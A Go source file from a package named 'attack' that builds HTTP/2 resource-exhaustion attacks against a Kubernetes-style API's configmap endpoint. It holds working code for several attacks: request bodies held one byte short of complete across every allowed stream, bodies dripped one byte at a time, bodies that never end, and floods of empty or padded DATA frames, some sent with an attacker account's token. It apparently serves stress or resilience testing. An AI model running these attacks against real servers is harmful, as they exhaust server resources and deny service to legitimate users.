package attack

import (
	"context"
	"errors"
	"time"
)

// streamLimit is how many requests a connection of HTTP/2 may have at a time.
const streamLimit = 250

// creating is where objects are created.
const creating = "/api/v1/namespaces/default/configmaps"

// bodyAttacks are about the bodies of requests.
func bodyAttacks() []Attack {
	const size = 64 << 10
	unfinished := fieldBlock("POST", creating, "content-type", "application/json", "content-length", "65536")
	unmeasured := fieldBlock("POST", creating, "content-type", "application/json")
	return []Attack{
		{Name: "bodies of 64 KiB but for the last byte", Unit: "bodies", Connections: 40, Planned: 40 * streamLimit, Window: longWindow,
			script: func(ctx context.Context, a *attacker) error { return unfinishedBodies(ctx, a, unfinished, size-1) }},
		{Name: "bodies of 64 KiB but for the last byte, by a user", Unit: "bodies", Connections: 40, Planned: 40 * streamLimit,
			Window: longWindow,
			script: func(ctx context.Context, a *attacker) error {
				return unfinishedBodies(ctx, a, userBody(a, "65536"), size-1)
			}},
		{Name: "bodies of unknown length, never ended", Unit: "bodies", Connections: 10, Planned: 10 * streamLimit,
			script: func(ctx context.Context, a *attacker) error { return unfinishedBodies(ctx, a, unmeasured, 4<<10) }},
		{Name: "slow bodies, a byte at a time", Unit: "bytes", Connections: 4, Planned: 4 * streamLimit * 4,
			script: func(ctx context.Context, a *attacker) error { return slowBodies(ctx, a, unfinished) }},
		{Name: "slow bodies of a user", Unit: "bytes", Connections: 4, Planned: 4 * streamLimit * 4,
			script: func(ctx context.Context, a *attacker) error {
				return slowBodies(ctx, a, userBody(a, "65536"))
			}},
		{Name: "DATA flood, empty frames", Unit: "frames", Connections: 4, Planned: 200_000, script: dataFlood(func(c *h2conn) error {
			return c.WriteData(1, false, nil)
		})},
		{Name: "DATA flood, one byte and 255 of padding", Unit: "frames", Connections: 4, Planned: 80_000,
			script: dataFlood(func(c *h2conn) error {
				if err := c.reserve(257); err != nil {
					return err
				}
				return c.WriteDataPadded(1, false, []byte{'x'}, make([]byte, 255))
			})},
	}
}

// userBody is a request of the attacker's account to create an object.
func userBody(a *attacker, length string) []byte {
	return fieldBlock("POST", attackerObjects, "content-type", "application/json", "authorization", "Bearer "+a.AttackerToken,
		"content-length", length)
}

// unfinishedBodies opens as many requests as a connection may have, and sends so much of each body.
func unfinishedBodies(ctx context.Context, a *attacker, block []byte, size int) error {
	c, err := a.dialHTTP2(ctx, h2options{})
	if err != nil {
		return err
	}
	ids := make([]uint32, 0, a.units)
	for range a.units {
		id, err := c.headers(block, false)
		if err != nil {
			return err
		}
		ids = append(ids, id)
	}
	piece := make([]byte, 16<<10)
	for _, id := range ids {
		for rest := size; rest > 0; rest -= min(rest, len(piece)) {
			n := min(rest, len(piece))
			if err := c.reserve(n); err != nil {
				return err
			}
			if err := c.WriteData(id, false, piece[:n]); err != nil {
				return err
			}
		}
		a.tally.sent.Add(1)
	}
	return c.confirm()
}

// slowBodies opens as many requests as a connection may have, and adds a byte to each now and then.
func slowBodies(ctx context.Context, a *attacker, block []byte) error {
	c, err := a.dialHTTP2(ctx, h2options{})
	if err != nil {
		return err
	}
	ids := make([]uint32, 0, streamLimit)
	for range streamLimit {
		id, err := c.headers(block, false)
		if err != nil {
			return err
		}
		ids = append(ids, id)
	}
	return every(ctx, 400*time.Millisecond, func(int) error {
		for _, id := range ids {
			if err := errors.Join(c.reserve(1), c.WriteData(id, false, []byte{' '})); err != nil {
				return err
			}
			a.tally.sent.Add(1)
		}
		return c.confirm()
	})
}

// dataFlood sends frames of one body that never ends.
func dataFlood(send func(*h2conn) error) func(context.Context, *attacker) error {
	block := fieldBlock("POST", creating, "content-type", "application/json")
	begin := func(c *h2conn) error {
		_, err := c.headers(block, false)
		return err
	}
	return flood(h2options{}, begin, func(c *h2conn, _ int) error { return send(c) })
}
